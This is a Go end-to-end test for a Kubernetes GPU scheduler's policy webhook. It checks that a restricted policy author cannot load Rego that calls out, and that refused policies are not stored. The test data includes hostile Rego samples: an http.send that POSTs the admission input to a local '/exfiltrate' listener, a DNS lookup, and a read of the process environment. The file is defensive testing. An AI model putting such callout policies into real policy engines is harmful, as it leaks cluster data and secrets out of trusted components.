package e2e

import (
	"context"
	"fmt"
	"maps"
	"net"
	"net/http"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	authorizationv1 "k8s.io/api/authorization/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/util/retry"

	"github.com/partita-dev/partita/api/v1alpha1"
	"github.com/partita-dev/partita/policy"
)

// policyAuthor is who writes Partita's policy ConfigMaps in these tests: a
// user who may edit ConfigMaps in Partita's namespace and nothing else, as
// a platform team may delegate it. The Rego they write runs inside the
// webhook and the extender, which must not lend it their network.
const policyAuthor = "e2e-policy-author"

func policyAuthorClient(ctx context.Context, t *testing.T) kubernetes.Interface {
	t.Helper()
	role := &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Name: policyAuthor, Namespace: partitaNamespace},
		Rules: []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"configmaps"}, Verbs: []string{"get", "list", "create", "update", "patch", "delete"}}}}
	if _, err := clientset.RbacV1().Roles(partitaNamespace).Create(ctx, role, metav1.CreateOptions{}); err != nil && !apierrors.IsAlreadyExists(err) {
		t.Fatal(err)
	}
	rb := &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: policyAuthor, Namespace: partitaNamespace},
		RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: policyAuthor},
		Subjects: []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: rbacv1.UserKind, Name: policyAuthor}}}
	if _, err := clientset.RbacV1().RoleBindings(partitaNamespace).Create(ctx, rb, metav1.CreateOptions{}); err != nil && !apierrors.IsAlreadyExists(err) {
		t.Fatal(err)
	}
	cfg, err := cluster.RESTConfig()
	if err != nil {
		t.Fatal(err)
	}
	cfg.Impersonate.UserName, cfg.Impersonate.Groups = policyAuthor, []string{"system:authenticated"}
	cs, err := kubernetes.NewForConfig(cfg)
	if err != nil {
		t.Fatal(err)
	}
	// The API server's RBAC authorizer reads roles from its informers: a
	// binding just created may not be in force yet.
	eventually(ctx, t, 15*time.Second, func() error {
		r, err := cs.AuthorizationV1().SelfSubjectAccessReviews().Create(ctx, &authorizationv1.SelfSubjectAccessReview{
			Spec: authorizationv1.SelfSubjectAccessReviewSpec{ResourceAttributes: &authorizationv1.ResourceAttributes{
				Namespace: partitaNamespace, Verb: "create", Resource: "configmaps"}},
		}, metav1.CreateOptions{})
		if err != nil {
			return err
		}
		if !r.Status.Allowed {
			return fmt.Errorf("%s may not create ConfigMaps in %s yet: %s", policyAuthor, partitaNamespace, r.Status.Reason)
		}
		return nil
	})
	return cs
}

// TestTrustPolicyCannotCallOut: a policy author writes Rego that calls out
// (http.send to a listener on the host, where the webhook and extender run;
// a DNS lookup; the process environment). Each is refused when applied,
// naming the built-in, nothing is stored, the listener hears nothing, and
// the policy in force keeps deciding.
func TestTrustPolicyCannotCallOut(t *testing.T) {
	ctx := testContext(t, 2*time.Minute)
	f := newWebhookFixture(ctx, t)
	author := policyAuthorClient(ctx, t)

	var calls atomic.Int64
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{ReadHeaderTimeout: time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		calls.Add(1)
		_, _ = fmt.Fprintln(w, `{"allow": true}`)
	})}
	go func() { _ = srv.Serve(l) }()
	t.Cleanup(func() { _ = srv.Close() })
	sink := "http://" + l.Addr().String() + "/exfiltrate"

	// The good policy, scoped to this test's namespace (the cluster is
	// shared).
	const msg = "GPU pods of this namespace need the label cost-center"
	good := fmt.Sprintf("package partita.admission\n\ndeny contains %q if {\n\tinput.namespace == %q\n\tnot input.pod.labels[\"cost-center\"]\n}\n", msg, f.ns)
	cm := &corev1.ConfigMap{
		ObjectMeta: metav1.ObjectMeta{Name: "e2e-callout-" + f.ns, Namespace: partitaNamespace,
			Labels: map[string]string{v1alpha1.LabelPolicy: policy.PolicyLabelValue}},
		Data: map[string]string{f.ns + ".rego": good},
	}
	cms := author.CoreV1().ConfigMaps(partitaNamespace)
	if _, err := cms.Create(ctx, cm, metav1.CreateOptions{}); err != nil {
		t.Fatalf("create the good policy: %v", err)
	}
	t.Cleanup(func() {
		_ = clientset.CoreV1().ConfigMaps(partitaNamespace).Delete(context.WithoutCancel(ctx), cm.Name, metav1.DeleteOptions{})
	})
	pod := gpuPod(f.ns, "", map[string]string{v1alpha1.AnnotationGPUFraction: "0.5"}, map[string]string{v1alpha1.LabelQueue: f.queue})
	pod.GenerateName = "p-"
	eventually(ctx, t, 10*time.Second, func() error {
		if _, err := f.create(ctx, pod, true); err == nil || !strings.Contains(err.Error(), msg) {
			return fmt.Errorf("the good policy does not decide yet: %w", err)
		}
		return nil
	})

	callouts := map[string]struct {
		pkg, body, builtin string
	}{
		"http.send from the admission policy": {pkg: "partita.admission", builtin: "http.send",
			body: fmt.Sprintf("resp := http.send({\"method\": \"POST\", \"url\": %q, \"body\": input})\n\tnot resp.body.allow\n\tmsg := \"x\"", sink)},
		"http.send from the quota policy": {pkg: "partita.quota", builtin: "http.send",
			body: fmt.Sprintf("resp := http.send({\"method\": \"GET\", \"url\": %q})\n\tnot resp.body.allow\n\tmsg := \"x\"", sink)},
		"a DNS lookup": {pkg: "partita.admission", builtin: "net.lookup_ip_addr",
			body: "addrs := net.lookup_ip_addr(\"kubernetes.default.svc\")\n\tcount(addrs) > 0\n\tmsg := \"x\""},
		"the process environment": {pkg: "partita.admission", builtin: "opa.runtime",
			body: "msg := opa.runtime().env.HOME"},
	}
	for name, tc := range callouts {
		t.Run(name, func(t *testing.T) {
			rego := fmt.Sprintf("package %s\n\ndeny contains msg if {\n\t%s\n}\n", tc.pkg, tc.body)
			// As an update of the policy in force...
			// The webhook and the extender patch the ConfigMap's
			// partita.dev/policy-status as they load it: retry on a
			// conflict, from the latest version.
			var cur *corev1.ConfigMap
			err := retry.RetryOnConflict(retry.DefaultRetry, func() error {
				var err error
				if cur, err = cms.Get(ctx, cm.Name, metav1.GetOptions{}); err != nil {
					return err
				}
				upd := cur.DeepCopy()
				upd.Data["callout.rego"] = rego
				_, err = cms.Update(ctx, upd, metav1.UpdateOptions{})
				return err
			})
			if err == nil || !strings.Contains(err.Error(), tc.builtin+" is not allowed") {
				t.Errorf("update with %s = %v, want a refusal naming it", tc.builtin, err)
			}
			// ...and as a ConfigMap of its own.
			extra := &corev1.ConfigMap{
				ObjectMeta: metav1.ObjectMeta{GenerateName: "e2e-callout-", Namespace: partitaNamespace,
					Labels: map[string]string{v1alpha1.LabelPolicy: policy.PolicyLabelValue}},
				Data: map[string]string{"callout-" + f.ns + ".rego": rego},
			}
			if created, err := cms.Create(ctx, extra, metav1.CreateOptions{}); err == nil || !strings.Contains(err.Error(), tc.builtin+" is not allowed") {
				t.Errorf("create with %s = %v, want a refusal naming it", tc.builtin, err)
				if err == nil {
					_ = clientset.CoreV1().ConfigMaps(partitaNamespace).Delete(context.WithoutCancel(ctx), created.Name, metav1.DeleteOptions{})
				}
			}
			stored, err := clientset.CoreV1().ConfigMaps(partitaNamespace).Get(ctx, cm.Name, metav1.GetOptions{})
			if err != nil {
				t.Fatal(err)
			}
			if _, ok := stored.Data["callout.rego"]; ok || !maps.Equal(stored.Data, cur.Data) {
				t.Errorf("the refused update was stored: %v", stored.Data)
			}
		})
	}

	// The policy in force still decides, and nothing was ever sent out.
	if _, err := f.create(ctx, pod, true); err == nil || !strings.Contains(err.Error(), msg) {
		t.Errorf("after the refusals: %v, want the good policy's refusal", err)
	}
	labelled := pod.DeepCopy()
	labelled.Labels["cost-center"] = "ml"
	if _, err := f.create(ctx, labelled, true); err != nil {
		t.Errorf("after the refusals, a labelled pod: %v", err)
	}
	if n := calls.Load(); n != 0 {
		t.Errorf("the listener on the host was called %d times", n)
	}
}
